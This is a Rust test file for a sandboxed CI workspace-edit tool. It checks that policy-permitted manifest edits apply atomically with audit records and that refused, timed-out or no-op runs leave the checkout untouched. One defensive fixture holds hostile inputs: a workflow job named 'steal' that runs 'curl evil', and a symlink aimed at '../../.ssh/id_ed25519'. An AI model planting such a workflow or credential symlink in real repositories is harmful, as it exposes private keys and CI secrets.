//! `airlock run --workspace`: a CI identity's tool edits a checkout through
//! a stage; permitted changes land atomically, a malicious or failing tool
//! changes nothing, and every outcome has its own exit code and audit
//! record.

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::{Value, json};

use super::audit::{Out, airlock};
use super::mcp::Setup;
use super::programs;

/// The CI identity of acme/app may run workspace-edit, read its checkout,
/// and change dependency manifests, never CI config or git metadata.
const POLICY: &str = r#"
@id("ci-runs-workspace-edit")
permit (principal, action == Action::"invoke", resource)
when { principal has repository && principal.repository == "acme/app" && resource.name == "workspace-edit" };

@id("ci-reads-the-checkout")
permit (principal, action == Action::"fs.read", resource in Path::"/workspace")
when { principal has repository && principal.repository == "acme/app" };

@id("ci-writes-manifests")
permit (principal, action == Action::"fs.write", resource)
when {
  principal has repository && principal.repository == "acme/app" &&
  (resource.path like "/workspace/*Cargo.toml" || resource.path like "/workspace/*Cargo.lock")
};

@id("never-ci-config")
forbid (principal, action == Action::"fs.write", resource in Path::"/workspace/.github");
"#;

const MANIFEST: &str = "[package]\nname = \"app\"\n\n[dependencies]\n# pinned\nserde = \"1.0.100\"\n";

fn setup() -> Setup {
    let setup = Setup::with(POLICY, "");
    let checkout = setup.path("checkout");
    std::fs::create_dir_all(checkout.join(".github/workflows")).expect("mkdir");
    std::fs::create_dir_all(checkout.join("src")).expect("mkdir");
    std::fs::write(checkout.join("Cargo.toml"), MANIFEST).expect("write");
    std::fs::write(checkout.join("src/main.rs"), "fn main() {}\n").expect("write");
    std::fs::write(checkout.join(".github/workflows/ci.yml"), "on: push\n").expect("write");
    setup
}

fn ci_token(setup: &Setup) -> String {
    setup.token_with("repo:acme/app:ref:refs/heads/main", json!({ "repository": "acme/app" }))
}

/// Runs workspace-edit on the checkout as the CI identity.
fn edit(setup: &Setup, input: Value, extra: &[&str]) -> Out {
    let token = ci_token(setup);
    let checkout = setup.path("checkout");
    let input = input.to_string();
    let mut args = vec![
        "run",
        programs::WORKSPACE_EDIT,
        "--token",
        &token,
        "--workspace",
        checkout.to_str().expect("utf-8 path"),
        "--input",
        &input,
    ];
    args.extend(extra);
    airlock(setup, &args)
}

/// Every entry under `root`: type, mode and bytes.
pub(super) fn snapshot(root: &Path) -> BTreeMap<String, (bool, u32, Vec<u8>)> {
    use std::os::unix::fs::PermissionsExt;
    let mut all = BTreeMap::new();
    let mut pending = vec![root.to_owned()];
    while let Some(dir) = pending.pop() {
        for item in std::fs::read_dir(&dir).expect("read_dir") {
            let path = item.expect("entry").path();
            let meta = std::fs::symlink_metadata(&path).expect("stat");
            let relative = path.strip_prefix(root).expect("under root").to_string_lossy().into_owned();
            let bytes = if meta.is_dir() {
                pending.push(path.clone());
                Vec::new()
            } else if meta.file_type().is_symlink() {
                std::fs::read_link(&path).expect("link").into_os_string().into_encoded_bytes()
            } else {
                std::fs::read(&path).expect("read")
            };
            all.insert(relative, (meta.file_type().is_symlink(), meta.permissions().mode(), bytes));
        }
    }
    all
}

/// The `workspace` record of the last call in the audit log.
pub(super) fn audited_workspace(setup: &Setup) -> Value {
    let log = std::fs::read_to_string(setup.path("audit/audit.jsonl")).expect("audit log");
    let last = log.lines().last().expect("a record");
    let record: Value = serde_json::from_str(last).expect("json");
    record["event"]["workspace"].clone()
}

#[test]
fn a_permitted_change_is_applied_and_reported_with_its_hash() {
    let setup = setup();
    let fixed = MANIFEST.replace("1.0.100", "1.0.200");
    let out = edit(&setup, json!({ "write": { "Cargo.toml": fixed } }), &[]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_to_string(setup.path("checkout/Cargo.toml")).expect("read"), fixed);
    let result: Value = serde_json::from_str(&out.stdout).expect("json result");
    assert_eq!(result["output"]["done"], json!(["wrote Cargo.toml"]));
    let sha = airlock_audit::sha256_hex(fixed.as_bytes());
    let expected = json!({
        "status": "applied",
        "changes": [{ "path": "Cargo.toml", "kind": "modified", "size": fixed.len(), "sha256": sha }],
        "refused": [],
    });
    assert_eq!(result["workspace"], expected);
    assert_eq!(audited_workspace(&setup), expected, "the audit event records the same changeset");
}

#[test]
fn a_malicious_tool_has_its_whole_changeset_refused_and_the_checkout_is_untouched() {
    let setup = setup();
    let before = snapshot(&setup.path("checkout"));
    let input = json!({
        "write": {
            "Cargo.toml": MANIFEST.replace("1.0.100", "1.0.200"),
            ".github/workflows/ci.yml": "on: push\njobs: { steal: { run: curl evil } }\n",
            "README.md": "hello\n",
        },
        "symlink": { "Cargo.lock": "../../.ssh/id_ed25519" },
    });
    let out = edit(&setup, input, &[]);
    assert_eq!(out.code, 21, "refused changes exit 21: {}", out.stderr);
    for expected in [
        ".github/workflows/ci.yml: fs.write on /workspace/.github/workflows/ci.yml forbidden by never-ci-config",
        "Cargo.lock: creates a symlink (to `../../.ssh/id_ed25519`); symlinks are never applied",
        "README.md: no policy permits fs.write on /workspace/README.md (default deny)",
        "3 of 4 changes refused",
    ] {
        assert!(out.stderr.contains(expected), "missing `{expected}` in:\n{}", out.stderr);
    }
    assert_eq!(snapshot(&setup.path("checkout")), before, "the checkout changed");
    let audited = audited_workspace(&setup);
    assert_eq!(audited["status"], "refused");
    assert_eq!(audited["refused"][0]["policies"], json!(["never-ci-config"]));
}

#[test]
fn a_tool_that_times_out_half_way_changes_nothing() {
    let setup = setup();
    let before = snapshot(&setup.path("checkout"));
    let input = json!({ "write": { "Cargo.toml": "# half-written\n" }, "spin": true });
    let out = edit(&setup, input, &["--timeout", "1s"]);
    assert_eq!(out.code, 4, "a limit exits 4: {}", out.stderr);
    assert_eq!(snapshot(&setup.path("checkout")), before);
    assert_eq!(audited_workspace(&setup), json!({ "status": "discarded", "changes": [], "refused": [] }));
}

#[test]
fn a_tool_that_changes_nothing_exits_20() {
    let setup = setup();
    let out = edit(&setup, json!({ "write": { "Cargo.toml": MANIFEST } }), &[]);
    assert_eq!(out.code, 20, "{}", out.stderr);
    assert!(out.stderr.contains("the tool changed nothing in the workspace"), "{}", out.stderr);
}

#[test]
fn a_dry_run_writes_a_patch_that_git_applies_and_applies_nothing() {
    let setup = setup();
    let before = snapshot(&setup.path("checkout"));
    let patch = setup.path("fix.patch");
    let fixed = MANIFEST.replace("1.0.100", "1.0.200");
    let out = edit(
        &setup,
        json!({ "write": { "Cargo.toml": fixed } }),
        &["--dry-run", patch.to_str().expect("utf-8")],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(snapshot(&setup.path("checkout")), before, "a dry run applied something");
    let result: Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(result["workspace"]["status"], "dry_run");
    let status = std::process::Command::new("git")
        .args(["apply", patch.to_str().expect("utf-8")])
        .current_dir(setup.path("checkout"))
        .status()
        .expect("git runs");
    assert!(status.success(), "git apply failed:\n{}", std::fs::read_to_string(&patch).unwrap_or_default());
    assert_eq!(std::fs::read_to_string(setup.path("checkout/Cargo.toml")).expect("read"), fixed);
}

#[test]
fn workspace_flags_that_cannot_work_are_usage_errors_naming_the_problem() {
    let setup = setup();
    let checkout = setup.path("checkout");
    let checkout = checkout.to_str().expect("utf-8");
    let missing = setup.path("no-such-dir");
    let missing = missing.to_str().expect("utf-8");
    for (tool, extra, expected) in [
        (programs::ECHO, ["--workspace", checkout], "exactly one read-write mount request; `echo` has 0"),
        (programs::WORKSPACE_EDIT, ["--workspace", missing], "--workspace `"),
        (programs::ECHO, ["--dry-run", "x.patch"], "--workspace"),
    ] {
        let token = ci_token(&setup);
        let mut args = vec!["run", tool, "--token", &token, "--input", "{}"];
        args.extend(extra);
        let out = airlock(&setup, &args);
        assert_eq!(out.code, 2, "{args:?}: {}", out.stderr);
        assert!(out.stderr.contains(expected), "{args:?}: missing `{expected}` in {}", out.stderr);
    }
}

#[test]
fn the_stage_is_made_where_asked_and_removed_after_the_call() {
    let setup = setup();
    let stages = setup.path("stages");
    std::fs::create_dir(&stages).expect("mkdir");
    let fixed = MANIFEST.replace("1.0.100", "1.0.200");
    let out = edit(
        &setup,
        json!({ "write": { "Cargo.toml": fixed } }),
        &["--stage-dir", stages.to_str().expect("utf-8")],
    );
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(std::fs::read_dir(&stages).expect("read").count(), 0, "the stage was left behind");

    let before = snapshot(&setup.path("checkout"));
    let missing = setup.path("no-such-stage-dir");
    let out = edit(
        &setup,
        json!({ "write": { "Cargo.toml": "x" } }),
        &["--stage-dir", missing.to_str().expect("utf-8")],
    );
    assert_eq!(out.code, 6, "{}", out.stderr);
    assert!(out.stderr.contains("no-such-stage-dir"), "{}", out.stderr);
    assert_eq!(snapshot(&setup.path("checkout")), before);
}
